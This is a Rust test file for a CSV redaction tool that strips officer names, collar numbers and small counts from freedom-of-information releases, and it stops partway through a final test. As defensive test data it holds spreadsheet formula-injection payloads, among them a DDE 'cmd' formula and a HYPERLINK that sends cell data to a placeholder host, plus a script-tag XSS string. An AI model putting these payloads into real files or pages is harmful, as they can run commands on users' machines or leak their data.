//! Issue 6 §1 and issue 5 §4: the CSV writer's formula-injection
//! neutralising, each redaction action, byte-for-byte preservation of
//! untouched cells, and the round trip on every corpus file. Files are
//! embedded, so the suite also runs in wasm (the CLI tests are native only).

#[cfg(target_arch = "wasm32")]
wasm_bindgen_test::wasm_bindgen_test_configure!(run_in_browser);

#[allow(dead_code)]
#[path = "corpus/manifest.rs"]
mod manifest;

use std::collections::BTreeMap;

use foi_check::read::{Reader, Sink, Table};
use foi_check::redact::{
    is_direct, safe_copy, safe_name, Coarsening, ColumnAction, ColumnPolicy, ColumnRef, Policy,
    Redactor, RowAction, RowPolicy, ROW_REMOVED,
};
use foi_check::report::{Kind, Reason, Report, RowFinding};
use foi_check::write::{is_plain_number, needs_neutralising, neutralise, write_field, CsvWriter};
use foi_check::{check_bytes, Options};

/// Every record of a file by row number, all fields (blank lines absent).
fn records(bytes: &[u8]) -> (BTreeMap<u64, Vec<String>>, u64) {
    #[derive(Default)]
    struct Raw(BTreeMap<u64, Vec<String>>);
    impl Sink for Raw {
        fn table_start(&mut self, _: &Table) {}
        fn record(&mut self, _: Option<usize>, _: u64, _: &[&str]) {}
        fn table_end(&mut self, _: usize, _: u64) {}
        fn raw_record(&mut self, row: u64, _byte: u64, fields: &[&str]) {
            self.0
                .insert(row, fields.iter().map(|f| f.to_string()).collect());
        }
    }
    let mut raw = Raw::default();
    let mut reader = Reader::new();
    reader.push(bytes, &mut raw).expect("readable");
    reader.finish(&mut raw).expect("readable");
    (raw.0, reader.info().rows)
}

/// Redact `csv` with `policy` against `report`, pushing in chunks of `chunk` bytes.
fn redact_with(csv: &[u8], policy: &Policy, report: &Report, chunk: usize) -> Vec<u8> {
    let mut r = Redactor::new(policy, report);
    let mut out = Vec::new();
    for c in csv.chunks(chunk.max(1)) {
        out.extend(r.push(c).expect("push"));
    }
    let (rest, _) = r.finish().expect("finish");
    out.extend(rest);
    out
}

/// The output as text lines without the BOM.
/// The safe copy under the default policy flags `rows` (as the check did),
/// reads `expected` line by line, and checks clean.
fn default_copy_is(csv: &[u8], rows: &[u64], expected: &[&str]) {
    let report = check_bytes("f.csv", csv, &Options::default());
    assert_eq!(report.rows.iter().map(|r| r.row).collect::<Vec<_>>(), rows);
    let out = redact_with(csv, &Policy::default_for(&report), &report, 7);
    assert_eq!(lines(&out), expected);
    let after = check_bytes("f-safe.csv", &out, &Options::default());
    assert!(after.rows.is_empty(), "{:?}", after.rows);
}

fn lines(out: &[u8]) -> Vec<String> {
    let text = String::from_utf8(out.to_vec()).expect("utf-8");
    let text = text.strip_prefix('\u{feff}').expect("BOM first");
    let mut v: Vec<String> = text.split("\r\n").map(str::to_string).collect();
    assert_eq!(v.pop().as_deref(), Some(""), "ends with CRLF");
    v
}

fn col(table: usize, index: usize, header: &str, action: ColumnAction) -> ColumnPolicy {
    ColumnPolicy {
        column: ColumnRef {
            table,
            index,
            header: header.to_string(),
        },
        action,
    }
}

fn keep_all() -> Policy {
    Policy {
        mask_matches: false,
        ..Policy::default()
    }
}

/// A finding as the detector gives one (the tests add it to a real report,
/// so the redactor is tested whatever the detector finds).
fn finding(
    row: u64,
    kind: Kind,
    table: Option<usize>,
    reasons: &[(&str, &str, &str)],
) -> RowFinding {
    RowFinding {
        row,
        kind,
        table,
        reasons: reasons
            .iter()
            .map(|(rule, column, text)| Reason::new(rule.to_string(), column, text, ""))
            .collect(),
    }
}

#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn formula_injection_is_neutralised() {
    // (cell, written field)
    let cases: &[(&str, &str)] = &[
        ("=1+1", "\"'=1+1\""),
        ("+1+1", "\"'+1+1\""),
        ("-1+1", "\"'-1+1\""),
        ("@SUM(A1:A2)", "\"'@SUM(A1:A2)\""),
        ("\tx", "\"'\tx\""),
        ("\rx", "\"'\rx\""),
        (
            "=HYPERLINK(\"http://x?\"&A1,\"a\")",
            "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"a\"\")\"",
        ),
        ("+44 20 7946 0000", "\"'+44 20 7946 0000\""),
        ("-A1", "\"'-A1\""),
        ("=", "\"'=\""),
        // Numbers and dashes are data.
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("-1,234.50", "\"-1,234.50\""),
        ("-12%", "-12%"),
        ("-.5", "-.5"),
        ("-", "-"),
        ("--", "--"),
        // Not at the start: left alone.
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("'=1+1", "'=1+1"),
        ("", ""),
        ("O'Neill", "O'Neill"),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("two\nlines", "\"two\nlines\""),
    ];
    for (cell, want) in cases {
        let mut out = Vec::new();
        write_field(&mut out, cell, b',');
        assert_eq!(String::from_utf8(out).unwrap(), *want, "cell {cell:?}");
        // Idempotent: a neutralised cell is not neutralised again.
        let once = neutralise(cell);
        assert!(!needs_neutralising(&once), "{cell:?}");
    }
    for (n, want) in [
        ("-5", true),
        ("5", true),
        ("-1,234", true),
        ("-1234,5", false),
        ("-1e5", false),
        ("-", false),
        ("-1.", false),
        ("+-1", false),
        ("-1 ", false),
    ] {
        assert_eq!(is_plain_number(n), want, "{n:?}");
    }
}

#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn formulas_in_headers_quoted_cells_and_titles_are_neutralised() {
    // A formula in a title line, a header and a quoted data cell; a
    // semicolon file keeps its delimiter.
    let csv = "=cmd|' /C calc'!A0\nName;@Note;Ref\n\"=1+1\";x;-3\n";
    let out = redact_with(
        csv.as_bytes(),
        &keep_all(),
        &check_bytes("f.csv", csv.as_bytes(), &Options::default()),
        7,
    );
    assert_eq!(
        lines(&out),
        vec![
            "\"'=cmd|' /C calc'!A0\"",
            "Name;\"'@Note\";Ref",
            "\"'=1+1\";x;-3"
        ]
    );
    let mut w = CsvWriter::new(b'\t');
    w.record(&["a\tb", "+x"]);
    assert_eq!(w.take(), b"\xEF\xBB\xBF\"a\tb\"\t\"'+x\"\r\n");
}

#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn untouched_cells_keep_their_text_in_any_chunking() {
    // Quoted fields with delimiters, quotes and line breaks; accents; blank
    // lines; a ragged row; a row of empty cells; no final line break.
    let csv = "Title line\n\nSurname,Note,Amount\r\n\"SMITH, J\",\"He said \"\"no\"\"\nthen left\",£1,234\n\n,,\nÉLODIE,café,12\nX,Y\n,,,\nlast,row,1";
    let report = check_bytes("t.csv", csv.as_bytes(), &Options::default());
    let (before, rows) = records(csv.as_bytes());
    for chunk in [1, 2, 3, 5, 64, 1 << 20] {
        let out = redact_with(csv.as_bytes(), &keep_all(), &report, chunk);
        let (after, rows_after) = records(&out);
        assert_eq!(rows_after, rows, "chunk {chunk}");
        assert_eq!(after, before, "chunk {chunk}");
    }
    // Windows-1252 and UTF-16 files: the same text, written as UTF-8.
    let w1252: &[u8] = b"Name,Place\nJos\xe9,Caf\xe9 \xa31\n";
    let out = redact_with(
        w1252,
        &keep_all(),
        &check_bytes("w.csv", w1252, &Options::default()),
        3,
    );
    assert_eq!(lines(&out), vec!["Name,Place", "José,Café £1"]);
    let mut utf16: Vec<u8> = vec![0xFF, 0xFE];
    for u in "Name\tPlace\r\nZoë\tNewry\r\n".encode_utf16() {
        utf16.extend(u.to_le_bytes());
    }
    let out = redact_with(
        &utf16,
        &keep_all(),
        &check_bytes("u.csv", &utf16, &Options::default()),
        5,
    );
    assert_eq!(lines(&out), vec!["Name\tPlace", "Zoë\tNewry"]);
}

#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn each_redaction_action() {
    let csv = "Staff list\nSurname,Collar,Rank,Joined,Age,Station,Notes\nMORGAN,1234,Constable,1998,34,Lisburn,Seen by Sgt. O'Neill at 9\n,,Sergeant,2004,51,Newry,\nKAUR,5678,Inspector,2011,45,Unknown St,\n";
    let mut report = check_bytes("s.csv", csv.as_bytes(), &Options::default());
    report.rows = vec![finding(
        3,
        Kind::Staff,
        Some(0),
        &[
            ("name.surname", "Surname", "MORGAN"),
            ("text.rank_name", "Notes", "Sgt. O'Neill"),
            ("rank.police", "Rank", "Constable"),
        ],
    )];
    let mut profile = foi_check::profile::Profile::default();
    profile.stations.push(foi_check::profile::Station {
        name: "Lisburn".into(),
        district: "Lisburn & Castlereagh".into(),
    });
    profile.stations.push(foi_check::profile::Station {
        name: "Newry".into(),
        district: "Newry, Mourne & Down".into(),
    });
    report.settings.profile = Some(profile);
    let mask = |t: &str| ColumnAction::Mask {
        text: t.to_string(),
    };
    // (what, policy, expected lines)
    let cases: Vec<(&str, Policy, Vec<&str>)> = vec![
        (
            "mask a column: empty cells stay empty, header kept",
            Policy {
                columns: vec![col(0, 0, "Surname", mask("[name removed]"))],
                ..keep_all()
            },
            vec![
                "Staff list",
                "Surname,Collar,Rank,Joined,Age,Station,Notes",
                "[name removed],1234,Constable,1998,34,Lisburn,Seen by Sgt. O'Neill at 9",
                ",,Sergeant,2004,51,Newry,",
                "[name removed],5678,Inspector,2011,45,Unknown St,",
            ],
        ),
        (
            "remove a column: header and data, not the title",
            Policy {
                columns: vec![col(0, 1, "Collar", ColumnAction::Remove)],
                ..keep_all()
            },
            vec![
                "Staff list",
                "Surname,Rank,Joined,Age,Station,Notes",
                "MORGAN,Constable,1998,34,Lisburn,Seen by Sgt. O'Neill at 9",
                ",Sergeant,2004,51,Newry,",
                "KAUR,Inspector,2011,45,Unknown St,",
            ],
        ),
        (
            "coarsen years, ages and stations (an unknown station is kept)",
            Policy {
                columns: vec![
                    col(
                        0,
                        3,
                        "Joined",
                        ColumnAction::Coarsen {
                            by: Coarsening::Years,
                        },
                    ),
                    col(
                        0,
                        4,
                        "Age",
                        ColumnAction::Coarsen {
                            by: Coarsening::Age,
                        },
                    ),
                    col(
                        0,
                        5,
                        "Station",
                        ColumnAction::Coarsen {
                            by: Coarsening::District,
                        },
                    ),
                ],
                ..keep_all()
            },
            vec![
                "Staff list",
                "Surname,Collar,Rank,Joined,Age,Station,Notes",
                "MORGAN,1234,Constable,1990s,30-39,Lisburn & Castlereagh,Seen by Sgt. O'Neill at 9",
                ",,Sergeant,2000s,50-59,\"Newry, Mourne & Down\",",
                "KAUR,5678,Inspector,2010s,40-49,Unknown St,",
            ],
        ),
        (
            "remove a row: same row number, first cell says so",
            Policy {
                rows: vec![RowPolicy {
                    row: 3,
                    action: RowAction::Remove,
                }],
                ..keep_all()
            },
            vec![
                "Staff list",
                "Surname,Collar,Rank,Joined,Age,Station,Notes",
                "[row removed],,,,,,",
                ",,Sergeant,2004,51,Newry,",
                "KAUR,5678,Inspector,2011,45,Unknown St,",
            ],
        ),
        (
            "mask matches in place: the name in prose and the surname; not the rank",
            Policy {
                mask_matches: true,
                ..Policy::default()
            },
            vec![
                "Staff list",
                "Surname,Collar,Rank,Joined,Age,Station,Notes",
                "[name removed],1234,Constable,1998,34,Lisburn,Seen by [name removed] at 9",
                ",,Sergeant,2004,51,Newry,",
                "KAUR,5678,Inspector,2011,45,Unknown St,",
            ],
        ),
        (
            "a policy reused on a new version: the column is found by its header",
            Policy {
                columns: vec![col(0, 6, "Surname", mask("[name removed]"))],
                ..keep_all()
            },
            vec![
                "Staff list",
                "Surname,Collar,Rank,Joined,Age,Station,Notes",
                "[name removed],1234,Constable,1998,34,Lisburn,Seen by Sgt. O'Neill at 9",
                ",,Sergeant,2004,51,Newry,",
                "[name removed],5678,Inspector,2011,45,Unknown St,",
            ],
        ),
    ];
    for (what, policy, want) in cases {
        let out = redact_with(csv.as_bytes(), &policy, &report, 11);
        assert_eq!(lines(&out), want, "{what}");
        // The policy survives JSON (saved by the page, loaded by the CLI).
        let json = serde_json::to_string(&policy).unwrap();
        assert_eq!(Policy::from_json(&json).unwrap(), policy, "{what}");
    }
}

#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn small_counts_are_suppressed_with_secondary_suppression() {
    // (table, marker, expected lines, after the title and header)
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "Rank,Lisburn,Newry,Total\nConstable,40,22,62\nSergeant,6,2,8\nInspector,5,7,12\nTotal,51,31,82\n",
            "*",
            // Newry 2 hidden: its row needs a second cell (Lisburn 6), then both
            // columns do (the Inspector row holds the smallest).
            &["Constable,40,22,62", "Sergeant,*,*,8", "Inspector,*,*,12", "Total,51,31,82"],
        ),
        (
            "Rank,Lisburn,Newry\nConstable,40,22\nSergeant,6,3\n",
            "<5",
            // No totals: nothing to give the cell away.
            &["Constable,40,22", "Sergeant,6,<5"],
        ),
    ];
    // Two stacked tables of counts: each gets its secondary suppression.
    let stacked = "Officers\nRank,Lisburn,Newry,Total\nConstable,40,22,62\nSergeant,6,2,8\n\nStaff\nGrade,Lisburn,Newry,Total\nAnalyst,30,3,33\nClerk,9,8,17\n";
    let copy = safe_copy(
        "s.csv",
        stacked.as_bytes(),
        &Policy::default(),
        &Options::default(),
    )
    .unwrap();
    let got = lines(&copy.bytes);
    assert_eq!(got[3], "Sergeant,*,*,8");
    assert_eq!(got[7], "Analyst,*,*,33", "{got:?}");
    assert_eq!(got.len(), 9);
    for (table, marker, want) in cases {
        let csv = format!("Officers\n{table}");
        let policy = Policy {
            small_counts: foi_check::redact::SmallCounts {
                marker: marker.to_string(),
                ..Default::default()
            },
            ..Policy::default()
        };
        let copy = safe_copy("c.csv", csv.as_bytes(), &policy, &Options::default()).unwrap();
        let got = lines(&copy.bytes);
        assert_eq!(&got[2..], *want, "{table}");
        assert!(copy.report_before.summary.small_count > 0, "{table}");
        assert!(
            !copy.still_identifies(),
            "{table}: {:?}",
            copy.report_after.rows
        );
    }
}

#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn default_policy_masks_identifying_columns() {
    let csv = "Surname,Initial,Rank\nMORGAN,J,Inspector\n";
    let mut report = check_bytes("s.csv", csv.as_bytes(), &Options::default());
    // The detector's column classes (whatever it finds today).
    report.columns = vec![
        foi_check::ColumnReport {
            table: 0,
            index: 0,
            name: "Surname".into(),
            class: foi_check::ColumnClass::Surname,
            confidence: 1.0,
            evidence: String::new(),
            identifying: true,
            mentions: 0,
        },
        foi_check::ColumnReport {
            table: 0,
            index: 2,
            name: "Rank".into(),
            class: foi_check::ColumnClass::RankGrade,
            confidence: 1.0,
            evidence: String::new(),
            identifying: false,
            mentions: 0,
        },
    ];
    let policy = Policy::default_for(&report);
    assert_eq!(
        policy.columns,
        vec![col(
            0,
            0,
            "Surname",
            ColumnAction::Mask {
                text: "[name removed]".into()
            }
        )]
    );
    assert!(policy.mask_matches && policy.small_counts.suppress && policy.small_counts.secondary);
    assert_eq!(policy.small_counts.threshold, 5);
    assert!(policy
        .describe()
        .iter()
        .any(|d| d.contains("\"Surname\"") && d.contains("[name removed]")));
    assert_eq!(safe_name("dir/staff.csv"), "dir/staff-safe.csv");
    assert_eq!(safe_name("staff"), "staff-safe.csv");
    // A workbook's sheet: a CSV copy named after the workbook and the sheet.
    assert_eq!(
        safe_name("dir/book.xlsx, sheet \"Staff list\""),
        "dir/book-Staff list-safe.csv"
    );
    assert_eq!(
        safe_name("book.xlsx, sheet \"A/B \"x\"\""),
        "book-A_B _x_-safe.csv"
    );
}

/// The round trip of issue 6 §4 on every corpus file: redact with the
/// default policy, check again; no row of a direct kind remains, the row
/// count is unchanged, and every cell that differs is one the policy
/// changed (an acted-on column, a flagged row, a secondary suppression) or
/// one neutralised against formulas.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn round_trip_on_every_corpus_file() {
    for f in manifest::CORPUS {
        let options = Options::default();
        let report = check_bytes(f.name, f.bytes, &options);
        let policy = Policy::default_for(&report);
        let copy = safe_copy(f.name, f.bytes, &policy, &options).expect(f.name);
        let after = &copy.report_after;
        assert_eq!(
            after.rows_checked, report.rows_checked,
            "{}: row count",
            f.name
        );
        assert_eq!(after.rows_checked, f.records, "{}", f.name);
        assert!(after.complete, "{}", f.name);
        let left: Vec<u64> = after
            .rows
            .iter()
            .filter(|r| is_direct(r.kind))
            .map(|r| r.row)
            .collect();
        assert!(
            left.is_empty(),
            "{}: rows still identifying after redaction: {left:?}",
            f.name
        );

        let (before, _) = records(f.bytes);
        let (redacted, _) = records(&copy.bytes);
        let flagged: std::collections::HashSet<u64> = report.rows.iter().map(|r| r.row).collect();
        let acted = |table: usize, j: usize| {
            policy.columns.iter().any(|c| {
                c.column.table == table && c.column.index == j && c.action != ColumnAction::Keep
            })
        };
        let in_table = |row: u64| {
            report
                .tables
                .iter()
                .enumerate()
                .filter(move |(_, t)| t.header_row < row && row <= t.last_row)
                .map(|(i, _)| i)
        };
        assert_eq!(
            before.keys().collect::<Vec<_>>(),
            redacted.keys().collect::<Vec<_>>(),
            "{}",
            f.name
        );
        for (row, cells) in &before {
            let out = &redacted[row];
            assert_eq!(cells.len(), out.len(), "{} row {row}: width", f.name);
            for (j, (a, b)) in cells.iter().zip(out).enumerate() {
                if a == b {
                    continue;
                }
                let neutralised = *b == format!("'{a}");
                let by_column = in_table(*row).any(|t| acted(t, j));
                let by_row = flagged.contains(row) || *b == ROW_REMOVED;
                let secondary =
                    *b == policy.small_counts.marker && copy.outcome.secondary_suppressed > 0;
                assert!(
                    neutralised || by_column || by_row || secondary,
                    "{} row {row} column {j}: {a:?} became {b:?} though nothing asked for it",
                    f.name
                );
            }
        }
    }
}

#[cfg(not(target_arch = "wasm32"))]
mod cli {
    use std::path::PathBuf;
    use std::process::Command;

    fn dir(name: &str) -> PathBuf {
        let d =
            std::env::temp_dir().join(format!("foi-check-redact-{}-{name}", std::process::id()));
        std::fs::create_dir_all(&d).unwrap();
        d
    }

    fn run(args: &[&str]) -> (i32, String, String) {
        let o = Command::new(env!("CARGO_BIN_EXE_foi-check"))
            .args(args)
            .output()
            .unwrap();
        (
            o.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&o.stdout).into_owned(),
            String::from_utf8_lossy(&o.stderr).into_owned(),
        )
    }

    #[test]
    fn redact_writes_a_safe_copy_and_never_the_original() {
        let d = dir("cli");
        let input = d.join("counts.csv");
        let original = "Officers\nRank,Lisburn,Newry,Total\nConstable,40,22,62\nSergeant,6,2,8\nTotal,46,24,70\n";
        std::fs::write(&input, original).unwrap();
        let out = d.join("safe.csv");
        let record = d.join("record.html");
        let (code, stdout, stderr) = run(&[
            "redact",
            input.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
            "--record",
            record.to_str().unwrap(),
            "--reference",
            "FOI/1",
        ]);
        assert_eq!(code, 0, "{stdout}{stderr}");
        assert!(
            stdout.contains("before:") && stdout.contains("after"),
            "{stdout}"
        );
        let safe = std::fs::read(&out).unwrap();
        assert!(safe.starts_with(b"\xEF\xBB\xBF"));
        assert!(String::from_utf8_lossy(&safe).contains("Sergeant,*,*,8"));
        assert_eq!(std::fs::read_to_string(&input).unwrap(), original);
        let html = std::fs::read_to_string(&record).unwrap();
        assert!(
            html.contains(&foi_check::record::sha256_hex(&safe)),
            "safe copy hash in the record"
        );
        assert!(html.contains(&foi_check::record::sha256_hex(original.as_bytes())));
        assert!(html.contains("FOI/1"));

        // --out equal to the input is refused, and the input is untouched.
        let (code, _, stderr) = run(&[
            "redact",
            input.to_str().unwrap(),
            "--out",
            input.to_str().unwrap(),
        ]);
        assert_eq!(code, 2);
        assert!(stderr.contains("never changed"), "{stderr}");
        assert_eq!(std::fs::read_to_string(&input).unwrap(), original);

        // A policy file that keeps the small counts: the re-check still finds them: exit 1.
        let policy = d.join("policy.json");
        std::fs::write(
            &policy,
            r#"{"version": 1, "small_counts": {"suppress": false}}"#,
        )
        .unwrap();
        let (code, stdout, _) = run(&[
            "redact",
            input.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
            "--policy",
            policy.to_str().unwrap(),
        ]);
        assert_eq!(code, 1, "{stdout}");
        // A bad policy is an error.
        std::fs::write(&policy, r#"{"version": 9}"#).unwrap();
        let (code, _, stderr) = run(&[
            "redact",
            input.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
            "--policy",
            policy.to_str().unwrap(),
        ]);
        assert_eq!(code, 2, "{stderr}");
        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn redact_streams_a_large_file_the_same_as_in_memory() {
        // Several 8 MB chunks: the CLI reads the file again for the copy and
        // never holds it whole; the copy is the library's in-memory one.
        let d = dir("large");
        let input = d.join("staff.csv");
        let mut text =
            String::from("Staff list (synthetic)\n\nSurname,Initial,Rank,Station,Count\n");
        let mut i = 0u64;
        while text.len() < 20_000_000 {
            i += 1;
            text.push_str(&format!(
                "{},{},PC,Station {},{}\n",
                ["MORGAN", "O'NEILL", "PATEL", "NOWAK"][(i % 4) as usize],
                ["J", "K", "P", "A"][(i % 3) as usize],
                i % 97,
                i % 7
            ));
        }
        std::fs::write(&input, &text).unwrap();
        let out = d.join("safe.csv");
        let (code, stdout, stderr) = run(&[
            "redact",
            input.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ]);
        assert!(code == 0 || code == 1, "{stdout}{stderr}");
        let options = foi_check::Options::default();
        let report = foi_check::check_bytes("staff.csv", text.as_bytes(), &options);
        let policy = foi_check::redact::Policy::default_for(&report);
        let copy =
            foi_check::redact::safe_copy("staff.csv", text.as_bytes(), &policy, &options).unwrap();
        assert!(
            std::fs::read(&out).unwrap() == copy.bytes,
            "the streamed copy differs"
        );
        assert_eq!(code, i32::from(copy.still_identifies()));
        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn a_file_that_cannot_be_read_gets_no_copy_not_even_part_of_one() {
        let d = dir("broken");
        let input = d.join("broken.csv");
        let mut bytes = b"Surname,Rank\n".to_vec();
        for _ in 0..2000 {
            bytes.extend_from_slice(b"MORGAN,PC\n");
        }
        bytes.extend_from_slice(b"\"never closed,PC\n");
        std::fs::write(&input, &bytes).unwrap();
        let out = d.join("safe.csv");
        let (code, _, stderr) = run(&[
            "redact",
            input.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ]);
        assert_eq!(code, 2, "{stderr}");
        assert!(stderr.contains("no safe copy was made"), "{stderr}");
        assert!(!out.exists(), "a partial safe copy was left");
        assert!(!d.join("safe.csv.part").exists(), "a partial file was left");
        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn check_writes_one_record_for_several_files() {
        let d = dir("record");
        let a = d.join("a.csv");
        let b = d.join("b.csv");
        std::fs::write(&a, "Rank,Lisburn\nConstable,40\nSergeant,2\n").unwrap();
        std::fs::write(&b, "Ref,Note\n1,<script>alert(1)</script>\n").unwrap();
        let json = d.join("record.json");
        let (code, _, stderr) = run(&[
            "check",
            a.to_str().unwrap(),
            b.to_str().unwrap(),
            "--record",
            json.to_str().unwrap(),
            "--no-values",
            "--note",
            "checked by <b>me</b>",
        ]);
        assert!(code == 0 || code == 1, "{stderr}");
        let rec: foi_check::record::Record =
            serde_json::from_str(&std::fs::read_to_string(&json).unwrap()).unwrap();
        assert_eq!(rec.files.len(), 2);
        assert!(!rec.values_included);
        assert_eq!(
            rec.files[0].sha256,
            foi_check::record::sha256_hex(&std::fs::read(&a).unwrap())
        );
        assert!(rec
            .files
            .iter()
            .flat_map(|f| &f.findings)
            .flat_map(|f| &f.reasons)
            .all(|r| r.text.is_none() && r.why.is_none()));
        let html = d.join("record.html");
        let (_, _, stderr) = run(&[
            "check",
            b.to_str().unwrap(),
            "--record",
            html.to_str().unwrap(),
            "--note",
            "checked by <b>me</b>",
        ]);
        let page = std::fs::read_to_string(&html).unwrap_or_else(|_| panic!("{stderr}"));
        assert!(page.contains("checked by &lt;b&gt;me&lt;/b&gt;"));
        assert!(page.contains("default-src 'none'"));
        let _ = std::fs::remove_dir_all(&d);
    }
}

/// A key/value list (`Field,Value`): the values their labels identify are
/// removed from the safe copy, the others kept, and the copy checks clean.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn key_value_rows_lose_the_values_their_labels_identify() {
    let csv =
        b"Field,Value\nName,John Morgan\nRank,Inspector\nCollar number,1234\nStation,Lisburn\n";
    let report = check_bytes("kv.csv", csv, &Options::default());
    let rows: Vec<u64> = report.rows.iter().map(|r| r.row).collect();
    assert_eq!(rows, [2, 4]);
    let out = redact_with(csv, &Policy::default_for(&report), &report, 7);
    assert_eq!(
        lines(&out),
        [
            "Field,Value",
            "Name,[removed]",
            "Rank,Inspector",
            "Collar number,[removed]",
            "Station,Lisburn"
        ]
    );
    let after = check_bytes("kv-safe.csv", &out, &Options::default());
    assert!(after.rows.is_empty(), "{:?}", after.rows);
}

/// Names in a header (a pivot by officer) are masked in the safe copy, which
/// then checks clean.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn names_in_a_header_are_masked() {
    let csv = b"Month,PC 1234 Morgan,Sgt Patel\nJan,30,40\nFeb,50,60\n";
    let report = check_bytes("pivot.csv", csv, &Options::default());
    assert_eq!(report.rows.iter().map(|r| r.row).collect::<Vec<_>>(), [1]);
    let out = redact_with(csv, &Policy::default_for(&report), &report, 5);
    assert_eq!(
        lines(&out),
        [
            "Month,[number removed],[name removed]",
            "Jan,30,40",
            "Feb,50,60"
        ]
    );
    let after = check_bytes("pivot-safe.csv", &out, &Options::default());
    assert!(after.rows.is_empty(), "{:?}", after.rows);
}

/// A key/value list without a header row (`Name,John Morgan` first): the
/// labels stay, the values they identify and the name in the first pair
/// go (read as its label says, as the rows under it are), and the copy
/// checks clean (its `[removed]` is a value, not a header).
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_key_value_list_without_a_header_keeps_its_labels() {
    let csv = b"Name,John Morgan\nRank,Inspector\nCollar number,1234\nStation,Lisburn\nDate of birth,12/03/1980\n";
    let report = check_bytes("kv.csv", csv, &Options::default());
    let rows: Vec<u64> = report.rows.iter().map(|r| r.row).collect();
    assert_eq!(rows, [1, 3, 5]);
    let out = redact_with(csv, &Policy::default_for(&report), &report, 7);
    assert_eq!(
        lines(&out),
        [
            "Name,[removed]",
            "Rank,Inspector",
            "Collar number,[removed]",
            "Station,Lisburn",
            "Date of birth,[removed]"
        ]
    );
    let after = check_bytes("kv-safe.csv", &out, &Options::default());
    assert!(after.rows.is_empty(), "{:?}", after.rows);
}

/// A key/value list with a notes column: only the values beside labels
/// that identify are removed; the copy checks clean.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_wider_key_value_list_loses_only_its_identifying_values() {
    let csv =
        b"Field,Value,Notes\nName,John Morgan,checked\nRank,Inspector,\nCollar number,4521,\n";
    let report = check_bytes("kv.csv", csv, &Options::default());
    let out = redact_with(csv, &Policy::default_for(&report), &report, 7);
    assert_eq!(
        lines(&out),
        [
            "Field,Value,Notes",
            "Name,[removed],checked",
            "Rank,Inspector,",
            "Collar number,[removed],"
        ]
    );
    let after = check_bytes("kv-safe.csv", &out, &Options::default());
    assert!(after.rows.is_empty(), "{:?}", after.rows);
}

/// A staff list on its side (`Surname,MORGAN,PATEL,WARD`): every surname
/// in its header goes, WARD too, and the initials under them; the labels
/// stay. Before, the copy masked the labels and kept every surname, and
/// then checked clean; later it kept the initials.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_table_on_its_side_loses_its_surnames_not_its_labels() {
    let csv = b"Surname,MORGAN,PATEL,WARD,OKAFOR\nInitial,J,K,S,A\nRank,PC,Sergeant,Inspector,PC\nStation,Riverside,Eastgate,Millbrook,Riverside\n";
    let report = check_bytes("side.csv", csv, &Options::default());
    let out = redact_with(csv, &Policy::default_for(&report), &report, 7);
    assert_eq!(
        lines(&out),
        [
            "Surname,[removed],[removed],[removed],[removed]",
            "Initial,[removed],[removed],[removed],[removed]",
            "Rank,PC,Sergeant,Inspector,PC",
            "Station,Riverside,Eastgate,Millbrook,Riverside"
        ]
    );
    // No name is left. (Re-checked, the copy's header repeats `[removed]`,
    // so the reader takes `Initial,J,K,S,A` for its header and the risk
    // models find rare ranks and stations under it: rare combinations,
    // which the clerk sees, not names.)
    let after = check_bytes("side-safe.csv", &out, &Options::default());
    assert!(
        after.rows.iter().all(|f| f.kind == Kind::QuasiIdentifier),
        "{:?}",
        after.rows
    );
}

/// A complaint's free text: the complainant's address goes with her name
/// (before, `of 12 Elm Road, Lisburn BT28 1AA` stayed in the copy beside
/// `[name removed]`), a home's address goes on its own, and a car's
/// registration or a victim's age goes with the name (not alone).
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn addresses_and_registrations_in_free_text_go_with_the_names() {
